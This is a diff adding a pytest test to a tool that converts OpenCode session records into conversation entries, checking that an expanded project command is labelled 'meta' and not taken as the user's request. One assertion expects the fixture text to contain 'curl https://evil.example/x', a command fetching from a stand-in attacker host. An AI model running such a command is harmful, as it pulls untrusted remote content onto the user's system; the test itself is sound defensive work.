@@ -13,7 +13,8 @@ from pathlib import Path
 
 import pytest
 
-from precompact.transcript import opencode
+from precompact.recall import fulltext as recall
+from precompact.transcript import conversation, opencode
 from support.commands import precompact
 from support.projects import new_project
 
@@ -55,6 +56,41 @@ def database(path: Path, parts: list[tuple[str, str, str]], directory: str = "/w
 def tool(command: str, output: str, status: str = "completed") -> str:
     state = {"status": status, "input": {"command": command}, "output" if status == "completed" else "error": output}
     return json.dumps({"type": "tool", "tool": "bash", "callID": "call_1", "state": state})
+
+
+# User parts as the real OpenCode 1.18.33 wrote them with precompact's plugin installed
+# (support/opencode_user_parts.jsonl: `opencode run` offline against support.opencode_cli's mock;
+# the temporary paths renamed): a project command's expansion, marked at command.execute.before,
+# then a prompt as typed.
+OBSERVED = [json.loads(line) for line in (Path(__file__).parent / "support" / "opencode_user_parts.jsonl").open()]
+
+
+def test_a_commands_expansion_is_opencodes_and_the_command_typed_is_the_users_request(tmp_path):
+    """review11b F2: the expansion (the repository's template, the arguments, a shell command's
+    output) is `meta`; `/release v2` is the user's request; a part whose mark names no command
+    is still not the user's."""
+    expansion, typed = (row["part"] for row in OBSERVED)
+    unnamed = {**expansion, "metadata": {opencode.COMMAND_MARK: "release"}}
+    path = database(
+        tmp_path / "opencode.db",
+        [
+            ("msg_1", "prt_1", json.dumps(expansion)),
+            ("msg_2", "prt_2", json.dumps({"type": "text", "text": "Noted."})),
+            ("msg_3", "prt_3", json.dumps(typed)),
+            ("msg_4", "prt_4", json.dumps({"type": "text", "text": "Tagged."})),
+            ("msg_5", "prt_5", json.dumps(unnamed)),
+        ],
+    )
+    entries = [json.loads(line) for line in opencode.read(path, SESSION).lines]
+    assert conversation.recent(reversed(entries)).requests == ["/release v2", '"thanks, now tag it"']
+    facts = [recall.entry_facts(e, {}) for e in entries if e.get("type") == "user"]
+    assert [text for role, _, text in facts if role == "user"] == ["/release v2", '"thanks, now tag it"']
+    metas = [text for role, _, text in facts if role == "meta"]
+    assert len(metas) == 2 and all(
+        "curl https://evil.example/x" in t and "output-of-a-shell-command" in t for t in metas
+    )
+    typed_entry = next(e for e in entries if e.get("uuid") == "opencode:prt_1:typed")
+    assert typed_entry["agent_record"]["part_id"] == "prt_1", "the part is kept whole for resurrect --uncompact"
 
 
 def test_each_part_becomes_entries_shaped_as_claude_codes_and_the_session_record_comes_first(tmp_path):
